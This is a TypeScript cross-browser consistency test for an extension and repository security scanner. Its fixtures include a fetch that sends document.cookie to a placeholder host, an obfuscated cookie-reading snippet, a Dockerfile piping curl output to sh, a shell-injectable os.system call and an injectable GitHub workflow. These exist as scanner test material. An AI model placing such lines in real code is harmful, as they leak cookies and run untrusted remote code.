import { createHash } from 'node:crypto';
import { cpSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { zipSync } from 'fflate';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { DEVICE_LIMITS } from '../../lib/backends/device/scanJob.ts';
import type { Analysis } from '../../lib/engine/analysis.ts';
import { analyze } from '../../lib/engine/analyze.ts';
import { ENGINE_VERSION } from '../../lib/engine/engineVersion.ts';
import { gitTree } from '../../lib/engine/sources/gitTree.ts';
import { packageTree } from '../../lib/engine/sources/packageTree.ts';
import { gitServer } from '../../lib/git/testing/gitServer.ts';
import { git, listedByGit, sampleRepository } from '../../lib/git/testing/sampleRepository.ts';
import type { Target } from '../../lib/model/target.ts';
import { engineHash } from '../../scripts/engineHash.mjs';
import { nodeInflater } from '../../service/scan/nodeInflater.ts';
import { loadedWith } from '../bench/budgets.ts';
import { buildFolder, startChromium } from './harness/chromium.ts';
import type { Chromium } from './harness/chromium.ts';
import { scanInWorker, watchLoaded } from './harness/engineWorker.ts';
import { startFirefox } from './harness/firefox.ts';
import type { Firefox } from './harness/firefox.ts';
import { zipOf } from './harness/realExtensions.ts';
import { html, startWorld } from './harness/world.ts';
import type { World } from './harness/world.ts';

/** The same bytes give the same Analysis in Node, Chromium and Firefox, whatever parts of the engine they need. */

const ROOT = path.resolve(import.meta.dirname, '../..');
const CORPUS = path.join(ROOT, 'test/corpus');

let world: World;
let chromium: Chromium;
let firefox: Firefox;
let host: Awaited<ReturnType<typeof gitServer>>;
let root: string;
/** An own page of each browser. */
let pages: { readonly chromium: Page; readonly firefox: Page };

beforeAll(async () => {
  root = sampleRepository().root;
  corpusRepository();
  world = await startWorld({ 'example.org': (_, response) => html(response, '') });
  host = await gitServer(root);
  [chromium, firefox] = await Promise.all([startChromium(world.port), startFirefox(world.port)]);
  pages = {
    chromium: await chromium.open(chromium.url('options.html')),
    firefox: await firefox.openOwn('options.html'),
  };
});
afterAll(async () => {
  await Promise.all([chromium?.close(), firefox?.close()]);
  await host?.[Symbol.asyncDispose]();
  await world?.close();
});

/** A repository of much that the corpus has for repositories: Python, TypeScript, workflows, containers, lockfiles, licences. */
function corpusRepository(): void {
  const work = path.join(root, 'corpus-work');
  mkdirSync(work);
  for (const family of ['repositories', 'infrastructure', 'injection', 'python'])
    for (const name of readdirSync(path.join(CORPUS, family)).slice(0, 15))
      cpSync(path.join(CORPUS, family, name), path.join(work, family, name), { recursive: true });
  for (const [file, content] of Object.entries(UNUSUAL)) {
    mkdirSync(path.dirname(path.join(work, file)), { recursive: true });
    writeFileSync(path.join(work, file), content);
  }
  git(work, ['init', '-q', '-b', 'main']);
  git(work, ['add', '-A', '-f']);
  git(work, ['commit', '-q', '-m', 'All']);
  git(root, ['clone', '-q', '--bare', work, path.join(root, 'corpus.git')]);
}

/** Files that take each part of the engine that is loaded on demand. */
const UNUSUAL: Readonly<Record<string, string>> = {
  'src/typed.ts': 'export const send = (key: string): Promise<Response> => fetch(`https://a.example/${key}`);\n',
  // No parser reads this: the second one is asked, too.
  'src/broken.js': 'const = 3; fetch("https://b.example/" + document.cookie);\n',
  'src/masked.js': `
    function list() { const texts = ['7days', 'send', 'cookies', '3x', 'getAll']; list = function () { return texts; }; return list(); }
    function read(at) { at = at - 0x10; return list()[at]; }
    (function (source, goal) {
      const texts = source();
      while (!![]) { try { const sum = parseInt(read(0x13)) + parseInt(read(0x11)); if (sum === goal) break; else texts['push'](texts['shift']()); } catch (fault) { texts['push'](texts['shift']()); } }
    }(list, 0xa));
    chrome[read(0x10)][read(0x11 + 1)]({}, answer);`,
  'lib/jquery.js': '/*! jQuery v3.4.1 | (c) JS Foundation and other contributors */',
  'tools/build.py': 'import os, sys\nos.system("ls " + sys.argv[1])\n',
  'tools/requirements.txt': 'requests==2.0.0\n',
  'tools/Cargo.lock': '[[package]]\nname = "a"\nversion = "1.0.0"\n',
  'tools/pyproject.toml': '[project]\nname = "a"\ndependencies = ["flask==1.0"]\n',
  'package-lock.json': '{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1.0.0"}}}',
  Dockerfile: 'FROM node:latest\nRUN curl http://a.example | sh\n',
  '.github/workflows/build.yml':
    'on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ github.event.issue.title }}\n',
  // On no short list of licences.
  LICENSE:
    'This software is made available to whoever asks for it by letter, under terms that the answer to the letter names, and under no others whatever.',
};

const MIXED = zipSync(
  Object.fromEntries(
    Object.entries({
      ...UNUSUAL,
      'manifest.json': JSON.stringify({
        manifest_version: 3,
        name: 'Mixed',
        version: '1',
        background: { service_worker: 'src/masked.js' },
        content_scripts: [{ matches: ['<all_urls>'], js: ['src/broken.js', 'src/typed.ts'] }],
      }),
    }).map(([name, text]) => [name, new TextEncoder().encode(text)]),
  ),
);

/** All blobs of a repository, by git itself. */
function blobsOf(bare: string): ReadonlyMap<string, Uint8Array> {
  const out = git(bare, ['cat-file', '--batch', '--batch-all-objects']);
  const blobs = new Map<string, Uint8Array>();
  for (let at = 0; at < out.length;) {
    const end = out.indexOf(10, at);
    const [id = '', kind, size] = out.toString('latin1', at, end).split(' ');
    if (kind === 'blob') blobs.set(id, new Uint8Array(out.subarray(end + 1, end + 1 + Number(size))));
    at = end + Number(size) + 2;
  }
  return blobs;
}

/** The engine runs from its sources here, and in browsers from a bundle of the same. */
const VERSION = ENGINE_VERSION.replace(/source$/, engineHash(ROOT));
const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
/** As it is sent and stored. */
const plain = (analysis: Analysis): unknown =>
  JSON.parse(JSON.stringify(analysis).replaceAll(JSON.stringify(ENGINE_VERSION), JSON.stringify(VERSION)));

describe.each([
  ['uBlock Origin for Chromium', () => zipOf('ublock-origin-chromium'), ['unmask']],
  ['uBlock Origin for Firefox', () => zipOf('ublock-origin-firefox'), ['unmask']],
  ['Privacy Badger', () => zipOf('privacy-badger'), ['advisories', 'unmask']],
  ['Tree Style Tab', () => zipOf('tree-style-tab'), ['acorn']],
  ['FoxyProxy', () => zipOf('foxyproxy'), []],
  [
    'a package that takes every part',
    () => MIXED,
    ['acorn', 'advisories', 'dist', 'licenseIndex', 'nearIndex', 'others', 'pypi', 'spdx', 'sucrase', 'unmask'],
  ],
] as const)('the package %s', (_, pack, parts) => {
  test('gives the same in Node, Chromium and Firefox, and loads what its files need', async () => {
    const bytes = pack();
    const target: Target = { kind: 'upload', fileName: 'package.zip', sha256: sha256(bytes) };
    const tree = await packageTree(bytes, { inflater: nodeInflater, hash: sha256, limits: DEVICE_LIMITS });
    const expected = plain(await analyze(tree, { target, hash: sha256 }));
    const loaded = watchLoaded(pages.chromium, chromium.url(''));
    const job = { target, url: 'package.zip' };
    expect(await scanInWorker(pages.chromium, job, bytes)).toEqual(expected);
    expect(await scanInWorker(pages.firefox, job, bytes)).toEqual(expected);
    const known = loadedWith(buildFolder('chrome-mv3'), 'engine.js');
    const more = [...loaded].filter((file) => !known.includes(file));
    expect(known.filter((file) => !loaded.has(file))).toEqual([]);
    expect(more.map((file) => /^engine\/([^-]+)-/.exec(file)?.[1]).toSorted()).toEqual(parts);
  });
});

describe.each(['sample', 'corpus'])('the repository %s', (name) => {
  test('gives the same in Node, Chromium and Firefox', async () => {
    const target: Target = { kind: 'repository', host: 'git.example', owner: 'team', name, branch: 'main' };
    const bare = path.join(root, `${name}.git`);
    const blobs = blobsOf(bare);
    const entries = listedByGit(bare, 'main').map((entry) => ({ ...entry, size: blobs.get(entry.id)?.length ?? 0 }));
    const commit = git(bare, ['rev-parse', 'main']).toString().trim();
    const read = async ({ id }: { id: string }) => blobs.get(id) ?? new Uint8Array();
    const expected = plain(await analyze(gitTree(commit, entries, read, DEVICE_LIMITS), { target, hash: sha256 }));
    const job = { target, url: `${host.origin}/${name}.git` };
    expect(await scanInWorker(pages.chromium, job)).toEqual(expected);
    expect(await scanInWorker(pages.firefox, job)).toEqual(expected);
  });
});
